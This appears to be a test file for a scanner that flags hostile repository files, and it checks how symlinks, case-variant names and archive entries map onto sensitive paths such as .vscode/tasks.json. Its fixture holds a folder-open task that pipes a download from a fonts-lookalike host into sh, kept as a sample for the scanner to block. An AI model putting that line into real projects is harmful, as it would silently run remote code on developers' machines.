/**
 * Presenting files in the roles links and names give them (src/acquire/links.ts, role-path.ts, workspace.ts
 * presentRoles): resolution, loops, the bound on what links add, lookups as a case-insensitive platform answers them,
 * and which names are moved to a role path.
 */
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { foldCase, lexicalPath, platformKey, rolePathOf, windowsPath } from '../src/acquire/role-path.js';
import { acquireLocal } from '../src/acquire/local.js';
import { DEFAULT_LIMITS } from '../src/options.js';
import { isRolePath } from '../src/engine/role-paths.js';
import { selectForDiff } from '../src/action/diff.js';
import { scanFolder, tempDir } from './helpers.js';

const TASKS = JSON.stringify({ version: '2.0.0', tasks: [{ label: 's', type: 'shell', command: 'curl -s https://fonts-cdn.vercel.app/x | sh', runOptions: { runOn: 'folderOpen' } }] });

describe('role paths', () => {
  it('normalises names as extractors and Windows write them', () => {
    assert.equal(lexicalPath('p//a/./b\\c/'), 'p/a/b/c');
    assert.equal(windowsPath('.vscode./tasks.json  '), '.vscode/tasks.json');
    assert.equal(windowsPath('a/../b'), 'a/../b');
    assert.equal(windowsPath('...'), '...', 'a segment of only dots is left alone');
    assert.equal(foldCase('.VSCode/Tasks.JSON'), '.vscode/tasks.json');
    assert.equal(foldCase('.v\u017Fcode'), '.vscode', 'long s folds to s, as APFS and NTFS compare');
    assert.equal(platformKey('P//.VSCode./Tasks.json '), 'p/.vscode/tasks.json');
  });

  const table: [string, string | undefined][] = [
    ['package.json', undefined],
    ['src/index.js', undefined],
    ['README.md', undefined],
    ['src/App.tsx', undefined],
    ['Makefile', undefined],
    ['Package.JSON', 'package.json'],
    ['sub/PACKAGE.json', 'sub/package.json'],
    ['.VSCode/Tasks.json', '.vscode/tasks.json'],
    ['.vscode./tasks.json', '.vscode/tasks.json'],
    ['package.json ', 'package.json'],
    ['.vscode/./tasks.json', '.vscode/tasks.json'],
    ['.Devcontainer/devcontainer.json', '.devcontainer/devcontainer.json'],
    ['.HUSKY/pre-commit', '.husky/pre-commit'],
    ['.vscode/SETTINGS.json', '.vscode/settings.json'],
    ['PIPFILE', 'Pipfile'],
    ['pipfile', 'Pipfile'],
    ['src//util.js', 'src/util.js'],
    ['Docs/Guide.md', undefined],
    ['.GIT/Hooks/post-checkout', '.git/hooks/post-checkout'],
    ['.VSCode. /Tasks.json ', '.vscode/tasks.json'],
    ['sub\\.vscode\\tasks.json', 'sub/.vscode/tasks.json'],
    ['.vscode/tasks.json', undefined],
    ['.npmrc', undefined],
    ['.NPMRC', '.npmrc'],
  ];
  for (const [stored, want] of table) {
    it(`${JSON.stringify(stored)} → ${want === undefined ? 'its own path' : JSON.stringify(want)}`, () => {
      assert.equal(rolePathOf(stored, isRolePath), want);
    });
  }
});

describe('links presented at their paths', () => {
  let t: ReturnType<typeof tempDir>;
  beforeEach(() => {
    t = tempDir();
  });
  afterEach(() => t.cleanup());

  function tree(files: Record<string, string>, links: Record<string, string>): string {
    const root = path.join(t.dir, 'repo');
    for (const [p, c] of Object.entries(files)) {
      mkdirSync(path.dirname(path.join(root, p)), { recursive: true });
      writeFileSync(path.join(root, p), c);
    }
    for (const [p, target] of Object.entries(links)) {
      mkdirSync(path.dirname(path.join(root, p)), { recursive: true });
      symlinkSync(target, path.join(root, p));
    }
    return root;
  }

  it('a folder link presents every file under its target, with where it came from', async () => {
    const root = tree({ 'config/editor/tasks.json': TASKS, 'config/editor/sub/x.json': '{}' }, { '.vscode': 'config/editor' });
    const ws = await acquireLocal(root, DEFAULT_LIMITS);
    ws.presentRoles(isRolePath);
    const tasks = ws.files.find((f) => f.path === '.vscode/tasks.json');
    assert.ok(tasks?.alias);
    assert.equal(tasks.alias.of, 'config/editor/tasks.json');
    assert.equal(tasks.alias.how, 'link');
    assert.equal(await tasks.text(), TASKS);
    assert.ok(ws.files.some((f) => f.path === '.vscode/sub/x.json'));
    assert.ok(ws.files.some((f) => f.path === 'config/editor/tasks.json' && !f.alias), 'the target stays at its own path');
  });

  it('a link whose own name only matches case-insensitively (.VSCode -> cfg) presents its files at the role path', async () => {
    const root = tree({ 'cfg/tasks.json': TASKS }, { '.VSCode': 'cfg' });
    const r = await scanFolder(root);
    assert.equal(r.verdict, 'block');
    const f = r.findings.find((x) => x.location.file === '.vscode/tasks.json');
    assert.ok(f?.evidence.some((e) => /symlink/.test(e.value) && /"\.VSCode\/tasks\.json"/.test(e.value)), JSON.stringify(f?.evidence));
  });

  it('inside a nested archive only the entry name is normalised, not the archive path', async () => {
    const { zipOf } = await import('./support/archives.js');
    const root = path.join(t.dir, 'repo');
    mkdirSync(path.join(root, 'Assets'), { recursive: true });
    writeFileSync(path.join(root, 'Assets', 'Kit.zip'), await zipOf([{ name: '.VSCode/Tasks.json', data: TASKS }]));
    const r = await scanFolder(root);
    assert.ok(r.findings.some((x) => x.location.file === 'Assets/Kit.zip!/.vscode/tasks.json' && x.location.container === 'Assets/Kit.zip'), JSON.stringify(r.findings.map((x) => x.location)));
  });

  it('a loop through nested folder links ends, and says so without calling the scan incomplete', async () => {
    const root = tree({ 'a/f.js': '1' }, { 'a/b/up': '../..', 'a/self': '.', 'x': 'a' });
    const r = await scanFolder(root);
    assert.equal(r.complete, true, JSON.stringify(r.diagnostics));
    assert.ok(r.stats.files < 20, `${r.stats.files} entries`);
  });

  it('what links add is bounded by the room under maxFiles: past it, the scan is incomplete', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 20; i++) files[`lib/f${i}.js`] = `module.exports = ${i};\n`;
    const links: Record<string, string> = {};
    for (let i = 0; i < 20; i++) links[`copy${i}`] = 'lib';
    const root = tree(files, links);
    const r = await scanFolder(root, { limits: { maxFiles: 100 } });
    assert.equal(r.complete, false);
    assert.ok(r.diagnostics.some((d) => d.code === 'link-expansion-limit' && d.incomplete));
    assert.ok(r.stats.files <= 100, `${r.stats.files} entries`);
  });

  it('a link to a file the scan refused to read is not resolved: incomplete', async () => {
    const root = tree({ 'big/pkg.json': 'x'.repeat(2048) }, { 'package.json': 'big/pkg.json', 'gone.json': 'nowhere/x.json' });
    const r = await scanFolder(root, { limits: { maxFileBytes: 1024 } });
    assert.equal(r.complete, false);
    assert.ok(r.diagnostics.some((d) => d.code === 'symlink-not-followed' && d.file === 'gone.json' && d.incomplete));
  });

  it('a finding at a linked path names the link and the target, so a change to either keeps it in diff mode', async () => {
    const root = tree({ 'config/editor/tasks.json': TASKS }, { '.vscode': 'config/editor' });
    const r = await scanFolder(root);
    const f = r.findings.find((x) => x.location.file === '.vscode/tasks.json');
    assert.ok(f, JSON.stringify(r.findings.map((x) => x.location.file)));
    const at = f.evidence.map((e) => e.location?.file);
    assert.ok(at.includes('.vscode') && at.includes('config/editor/tasks.json'), JSON.stringify(f.evidence));
    for (const changed of ['.vscode', 'config/editor/tasks.json']) {
      assert.equal(selectForDiff([f], { changed: new Set([changed]), dependencyFiles: new Map() }).length, 1, `kept when only ${changed} changed`);
    }
    assert.equal(selectForDiff([f], { changed: new Set(['README.md']), dependencyFiles: new Map() }).length, 0);
  });

  it('lookups by name answer as macOS and Windows do when no exact name exists; an exact name wins', async () => {
    const root = tree({ 'Scripts/Setup.JS': '1', 'a.js': 'exact', 'A.JS': 'other' }, {});
    const ws = await acquireLocal(root, DEFAULT_LIMITS);
    assert.equal(ws.get('scripts/setup.js')?.path, 'Scripts/Setup.JS');
    assert.equal(ws.get('a.js')?.path, 'a.js');
    assert.equal(ws.get('A.JS')?.path, 'A.JS');
  });
});
